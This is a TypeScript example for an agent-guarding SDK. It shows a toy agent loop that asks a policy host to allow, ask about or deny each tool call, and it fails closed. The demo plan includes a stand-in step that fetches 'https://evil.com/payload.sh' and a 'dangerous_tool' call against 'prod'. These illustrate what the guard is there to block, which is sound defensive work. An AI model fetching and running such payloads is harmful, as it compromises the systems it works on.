// A toy agent that asks Palisade before every tool call, and before acting on the model's
// output. Run a host first (npm start), set up a tenant as in the README, then:
//
//   PALISADE_KEY=pal_agent_… PALISADE_TENANT=acme npm run example:agent
//
// With failClosed, an unreachable host means DENY: the agent never acts unchecked.
import type { PolicyEvent } from "palisade/sdk";
import { isPalisadeError } from "palisade/sdk";
import { PalisadeClient, type ClientError } from "palisade/sdk/client";

const tenant = process.env.PALISADE_TENANT ?? "acme";
const key = process.env.PALISADE_KEY;
if (!key) {
  console.error("agent-loop: set PALISADE_KEY to an agent key of the tenant (see the README's quick start), e.g.\n  PALISADE_KEY=pal_agent_… PALISADE_TENANT=acme npm run example:agent");
  process.exit(2);
}
const client = new PalisadeClient({ url: process.env.PALISADE_URL ?? "http://127.0.0.1:8181", key, timeoutMs: 2000, failClosed: true });

// What the "model" wants to do next, one step at a time.
const plan: { tool: string; arguments: Record<string, unknown> }[] = [
  { tool: "web_fetch", arguments: { url: "https://docs.example.com/install" } },
  { tool: "web_fetch", arguments: { url: "https://evil.com/payload.sh" } },
  { tool: "dangerous_tool", arguments: { target: "prod" } },
];

const tools: Record<string, (args: Record<string, unknown>) => string> = {
  web_fetch: (args) => `fetched ${String(args.url)}`,
  dangerous_tool: () => "boom",
};

// failClosed turns an unreachable or failing host into DENY; what still throws is the caller's
// own mistake (a wrong key, a wrong tenant, a bad event), which no retry will fix: say so and stop.
const HINTS: Record<number, string> = {
  400: "the event does not match its schema",
  401: "PALISADE_KEY is not a valid key: create an agent key (README, quick start)",
  403: "PALISADE_KEY is not an agent key",
  404: `no tenant "${tenant}" for this key: check PALISADE_TENANT`,
};

async function run(): Promise<void> {
  for (const [step, call] of plan.entries()) {
    const event: PolicyEvent = {
      type: "tool_call",
      data: { name: call.tool, arguments: call.arguments },
      context: { session_id: "demo-session", agent: "agent-loop" },
    };
    const decision = await client.evaluate(tenant, event);
    if (decision.result === "ALLOW") {
      // A policy may rewrite the arguments (say, to redact them): use what it returned.
      const args = (decision.data as { arguments?: Record<string, unknown> } | null)?.arguments ?? call.arguments;
      console.log(`step ${step + 1}: ${call.tool} → ALLOW → ${tools[call.tool]!(args)}`);
    } else if (decision.result === "ASK") {
      console.log(`step ${step + 1}: ${call.tool} → ASK: would ask the user (${decision.reason})`);
    } else {
      console.log(`step ${step + 1}: ${call.tool} → DENY: skipped (${decision.reason})`);
    }
  }
}

try {
  await run();
} catch (e) {
  if (!isPalisadeError(e)) throw e;
  const status = (e as ClientError).status;
  console.error(`agent-loop: ${e.code}${status ? ` (HTTP ${status})` : ""}: ${e.message}${status && HINTS[status] ? `\n  ${HINTS[status]}` : ""}`);
  process.exit(1);
}
